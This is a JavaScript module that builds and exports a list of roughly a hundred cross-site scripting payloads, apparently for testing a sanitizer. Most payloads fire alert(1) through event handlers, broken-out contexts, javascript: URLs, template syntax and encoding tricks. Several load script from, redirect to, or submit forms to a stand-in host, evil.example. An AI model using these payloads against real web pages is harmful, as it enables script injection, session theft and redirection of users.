// A hundred ways to have a page run what it should show. Each calls `alert`, or leads away, if anyone lets it.
const CALL = 'alert(1)'

/** Elements that run a script by themselves once they are in a page. */
const ELEMENTS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'marquee onstart',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'p style=animation-name:x onanimationstart',
  'a autofocus tabindex=1 onfocus',
  'video autoplay onloadstart',
  'image src=x onerror',
  'svg><animate onbegin',
]

/** What may close the place that a text was put into. */
const OPENINGS = ['', '"><', "'><", '</title><', '</textarea><', '</script><', '--><', ']]><', '`><', '\\"><']

const SCRIPTS = OPENINGS.map(opening => `${opening || '<'}script>${CALL}</script>`)

/** These alone would be addresses, in a link. */
export const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  ` javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  '//evil.example/x',
  'https://evil.example/x.js',
  `<a href="javascript:${CALL}">x</a>`,
]

const TEMPLATES = [
  `{{constructor.constructor("${CALL}")()}}`,
  '$'.concat(`{${CALL}}`),
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{%if 1%}${CALL}{%endif%}`,
  `[[${CALL}]]`,
  `@(${CALL})`,
  `{{= ${CALL} }}`,
  `*{${CALL}}`,
  `'+${CALL}+'`,
]

const ODDITIES = [
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `<script\x20type="text/javascript">${CALL};</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<math><mtext><style><img src onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<form action=//evil.example><button>x`,
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  `<img src=\`x\`onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<svg><script href="data:text/javascript,${CALL}"/>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `\u202e<b onmouseover=${CALL}>x</b>`,
  `\u2028${CALL}//`,
  `__proto__`,
  `constructor`,
  `<template><script>${CALL}</script></template>`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<table background="javascript:${CALL}">`,
  `<button formaction="javascript:${CALL}">x`,
  `<xml onreadystatechange=${CALL}>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>"/>`,
  `"onfocus=${CALL} autofocus="`,
  `' onmouseover=${CALL} '`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
]

export const PAYLOADS = [
  ...ELEMENTS.map(element => `<${element}=${CALL}>`),
  ...OPENINGS.slice(1).map(opening => `${opening}img src=x onerror=${CALL}>`),
  ...OPENINGS.slice(1).map(opening => `${opening}svg onload=${CALL}>`),
  ...SCRIPTS,
  ...ADDRESSES,
  ...TEMPLATES,
  ...ODDITIES,
  `<svg><animate attributeName=href values=javascript:${CALL}></svg>`,
  `<x contenteditable onblur=${CALL}>`,
]
